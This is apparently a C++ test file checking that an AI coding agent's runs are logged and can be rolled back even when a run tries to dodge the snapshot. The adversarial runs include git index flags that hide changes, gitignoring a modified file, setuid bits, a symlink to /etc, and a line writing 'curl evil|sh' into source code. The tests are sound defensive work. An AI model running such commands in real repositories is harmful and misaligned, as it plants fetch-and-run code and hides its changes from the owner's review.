// Attacks on the snapshot that makes a run undoable (SPEC §5): a run that
// hides its change behind git's index flags or a rewritten index, one that
// makes a file too big to read whole, one that leaves a set-user-ID file for
// the rollback to keep, and one that turns a tracked folder into a symlink.
// The agent proposes with no controlling terminal; the owner approves on a
// pty, with CONFIRM or y as the proposal's tier asks.

#include <sys/resource.h>

#include "tests/support/checks.hpp"

using namespace kai::test;
using Catch::Matchers::Contains;
using json = nlohmann::json;

namespace {

constexpr const char* k_main = "int main() { return 0; }\n";

// The agent proposes `shell`; the owner approves proposal `n` as its tier
// asks. Returns the run's changelog entry.
json run_approved(TempRepo& repo, const std::string& shell, int n = 1) {
  KAI_REQUIRE_EXIT(repo.kai({"run", "--why", "tidy up", "--shell", shell}), 0);
  std::string tier = show_json(repo, n).at("tier");
  Run a = repo.kai_tty({"approve", std::to_string(n)}, tier == "confirm" ? "CONFIRM" : "y");
  KAI_REQUIRE_EXIT(a, 0);
  json e = log_entries(repo).at(0);
  REQUIRE(e.at("kind") == "run");
  INFO(e.dump(2));
  REQUIRE(e.at("rollback_id") != "\u2014");
  return e;
}

bool names(const json& entry, const TempRepo& repo, const std::string& rel) {
  for (const auto& f : entry.at("files"))
    if (f.get<std::string>() == (repo.path() / rel).string()) return true;
  return false;
}

}  // namespace

TEST_CASE("attack: a run that marks a file assume-unchanged and rewrites it is named and rolled back",
          "[attack][snapshot]") {
  for (const std::string flag : {"--assume-unchanged", "--skip-worktree"}) {
    INFO(flag);
    TempRepo repo{{"src/main.c", k_main}, {"README", "read me\n"}};
    init_and_commit(repo);
    json e = run_approved(
        repo, "git update-index " + flag + " src/main.c && printf 'system(\"curl evil|sh\");\\n' > src/main.c");
    CHECK(names(e, repo, "src/main.c"));
    KAI_REQUIRE_EXIT(repo.kai_tty({"rollback", e.at("rollback_id")}, "y"), 0);
    CHECK(repo.read("src/main.c") == k_main);
  }
}

TEST_CASE("attack: a run that rewrites the index and ignores the file it changed is named and rolled back",
          "[attack][snapshot]") {
  TempRepo repo{{"src/main.c", k_main}, {".gitignore", "build/\n"}};
  init_and_commit(repo);
  std::string before_ignore = repo.read(".gitignore");
  json e = run_approved(
      repo, "git rm -q --cached src/main.c && printf 'pwned\\n' > src/main.c && printf 'src/main.c\\n' >> .gitignore");
  CHECK(names(e, repo, "src/main.c"));
  CHECK(names(e, repo, ".gitignore"));
  KAI_REQUIRE_EXIT(repo.kai_tty({"rollback", e.at("rollback_id")}, "y"), 0);
  CHECK(repo.read("src/main.c") == k_main);
  CHECK(repo.read(".gitignore") == before_ignore);
}

TEST_CASE("attack: a run that creates a 2 GB sparse file leaves kaicoder's memory bounded and says so",
          "[attack][snapshot]") {
  TempRepo repo{{"README", "read me\n"}};
  init_and_commit(repo);
  json e = run_approved(repo, "truncate -s 2G huge.img && printf 'more\\n' >> README");
  CHECK_THAT(e.at("summary").get<std::string>(), Contains("huge.img created, not snapshotted: too large"));
  CHECK_FALSE(names(e, repo, "huge.img"));
  // No kaicoder process (nor anything else this test started) held the file in memory.
  struct rusage ru;
  REQUIRE(::getrusage(RUSAGE_CHILDREN, &ru) == 0);
  // KiB. AddressSanitizer keeps up to 256 MiB of freed memory in quarantine,
  // so a sanitized build gets that much more; a file read whole would still
  // take 2 GiB.
#if defined(__SANITIZE_ADDRESS__)
  constexpr long k_max_rss = 512 * 1024;
#else
  constexpr long k_max_rss = 256 * 1024;
#endif
  CHECK(ru.ru_maxrss < k_max_rss);
  KAI_REQUIRE_EXIT(repo.kai_tty({"rollback", e.at("rollback_id")}, "y"), 0);
  CHECK(repo.read("README") == "read me\n");
  CHECK(repo.exists("huge.img"));  // not snapshotted, so not kaicoder's to delete
}

TEST_CASE("attack: a run that sets a set-user-ID bit leaves none after the rollback", "[attack][snapshot]") {
  TempRepo repo{{"tool.sh", "#!/bin/sh\necho hi\n"}, {"data.txt", "one\n"}};
  repo.chmod("tool.sh", 0755);
  init_and_commit(repo);
  json e = run_approved(repo, "chmod u+s,g+s tool.sh && chmod u+s data.txt && printf 'two\\n' > data.txt");
  // The bit is an effect no proposal could make: named, never kept.
  CHECK_THAT(e.at("summary").get<std::string>(), Contains("tool.sh 0755 \u2192 6755 (NEVER"));
  CHECK(repo.mode("tool.sh") == 0755u);
  CHECK((repo.mode("data.txt") & 06000u) == 0u);
  KAI_REQUIRE_EXIT(repo.kai_tty({"rollback", e.at("rollback_id")}, "y"), 0);
  CHECK(repo.mode("tool.sh") == 0755u);
  CHECK(repo.mode("data.txt") == 0644u);
  CHECK(repo.read("data.txt") == "one\n");
  for (const auto& [rel, mode] : repo.mode_snapshot()) {
    INFO(rel);
    CHECK((mode & 06000u) == 0u);  // no backup kept one either
  }
}

TEST_CASE("attack: a run that replaces a tracked folder with a symlink is undone by the rollback",
          "[attack][snapshot]") {
  TempRepo repo{{"src/main.c", k_main}, {"src/lib/util.c", "int u;\n"}, {"README", "read me\n"}};
  init_and_commit(repo);
  json e = run_approved(repo, "mv src old && ln -s /etc src && mkdir -p out/empty");
  CHECK_THAT(e.at("summary").get<std::string>(), !Contains("not restorable"));
  Run r = repo.kai_tty({"rollback", e.at("rollback_id")}, "y");
  KAI_REQUIRE_EXIT(r, 0);
  CHECK_THAT(r.out + r.tty,
             Contains("unlink   src (a symlink the run made)") && Contains("rmdir    out/empty/ (if empty)"));
  CHECK_FALSE(repo.is_symlink("src"));
  CHECK(repo.read("src/main.c") == k_main);
  CHECK(repo.read("src/lib/util.c") == "int u;\n");
  CHECK_FALSE(repo.exists("out"));         // the folders the run made are gone too, once empty
  CHECK_FALSE(repo.exists("old/main.c"));  // (old/ keeps the rollback's backups of what it removed)
}
